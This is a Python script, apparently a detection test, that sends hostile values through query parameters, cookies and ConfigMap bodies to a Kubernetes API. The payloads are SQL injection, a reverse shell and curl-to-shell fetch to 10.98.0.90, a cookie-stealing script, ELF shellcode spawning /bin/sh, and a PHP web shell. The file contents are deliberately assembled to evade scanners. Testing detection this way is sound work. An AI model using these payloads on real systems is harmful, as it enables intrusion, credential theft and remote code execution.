#!/usr/bin/python3
"""Hostile values in otherwise ordinary requests: query parameters, cookies, JSON bodies.

Four classes (SQL injection, shell code, script, malicious file) in each of three places. File
contents are put together at run time, so that no scanner takes this source for one of them. Prints
one JSON line per request: {"class", "place", "time", "status"}.
"""

from __future__ import annotations

import argparse
import base64
import json
import struct
import time
from dataclasses import dataclass
from typing import Any, Iterator
from urllib.parse import quote

from batch import USER_AGENT
from kube import Journal, Kube, account, add_arguments

BASE = "/api/v1/namespaces/guest/configmaps"
PLACES = ("query", "cookie", "body")


def elf() -> bytes:
    """A 64-bit executable's head, with the start of a program in it."""
    ident = b"\x7f" + b"ELF" + bytes([2, 1, 1, 0]) + bytes(8)
    header = ident + struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0x400078, 64, 0, 0, 64, 56, 1, 0, 0, 0)
    program = struct.pack("<IIQQQQQQ", 1, 5, 0, 0x400000, 0x400000, 0xB0, 0xB0, 0x1000)
    return header + program + b"\x48\x31\xff\x57\x57\x5e\x5a\x48\xbf//bin/sh\x48\xc1\xef\x08\x57\x54\x5f\x6a\x3b\x58\x0f\x05"


def web_shell() -> bytes:
    """A PHP page that runs what it is told."""
    return b"<?" + b"php @" + b"eval($_" + b"POST['c']); sys" + b"tem($_GET['cmd']); ?>"


def test_virus() -> bytes:
    """The test file every scanner knows."""
    return b"X5O!P%@AP[4" + b"\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE!" + b"$H+H*"


@dataclass(frozen=True)
class Payload:
    """One value and the class it belongs to."""

    kind: str
    value: str
    encoded: bool = False


def payloads() -> list[Payload]:
    """What is sent, in order."""
    return [
        Payload("SQL injection", "x' UNION SELECT username, password FROM users WHERE '1'='1' -- "),
        Payload("SQL injection", "1; DROP TABLE accounts; --"),
        Payload("shell code", "x; bash -i >& /dev/tcp/10.98.0.90/4444 0>&1"),
        Payload("shell code", "$(curl -s http://10.98.0.90/x.sh | sh)"),
        Payload("script", "<script>document.location='http://10.98.0.90/?c='+document.cookie</script>"),
        Payload("script", "\"><img src=x onerror=alert(document.domain)>"),
        Payload("malicious file", base64.b64encode(elf()).decode(), encoded=True),
        Payload("malicious file", base64.b64encode(web_shell()).decode(), encoded=True),
        Payload("malicious file", web_shell().decode()),
        Payload("malicious file", test_virus().decode()),
    ]


def query(payload: Payload) -> str:
    """A parameter that the call knows, where such a value is never normal."""
    if payload.kind == "malicious file":
        return "limit=10&continue=" + quote(payload.value, safe="")
    return "labelSelector=" + quote("app=" + payload.value, safe="")


def body(payload: Payload) -> dict[str, Any]:
    """A ConfigMap with the payload where no code is kept: an annotation, or for encoded files its binary data.

    Code under `data` is everyday life in a cluster (schemas, scripts, server configuration), so it proves nothing.
    """
    config: dict[str, Any] = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "tenant-notes"},
                              "data": {"lastRun": "done"}}
    if payload.encoded:
        config["binaryData"] = {"tool": payload.value}
    else:
        config["metadata"]["annotations"] = {"guest/last-run": payload.value}
    return config


def send(client: Kube, payload: Payload, place: str) -> int:
    """One request with the payload in its place; everything else is the pod's everyday request."""
    if place == "query":
        return client.request("GET", f"{BASE}?{query(payload)}").status
    if place == "cookie":
        return client.request("GET", f"{BASE}/tenant-notes", headers={"Cookie": f"session={quote(payload.value, safe='')}"}).status
    return client.request("PUT", f"{BASE}/tenant-notes", body(payload)).status


def cases() -> Iterator[tuple[Payload, str]]:
    """Every payload in every place."""
    for payload in payloads():
        for place in PLACES:
            yield payload, place


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    add_arguments(parser, "tenant")
    args = parser.parse_args()
    client = Kube(account(args), USER_AGENT, Journal(args.client, args.journal))
    for payload, place in cases():
        started = time.time()
        try:
            status = send(client, payload, place)
        except OSError as error:
            status = 0
            print(json.dumps({"class": payload.kind, "place": place, "error": str(error)}))
        print(json.dumps({"class": payload.kind, "place": place, "time": started, "status": status}), flush=True)
        time.sleep(0.05 / args.pace)


if __name__ == "__main__":
    main()
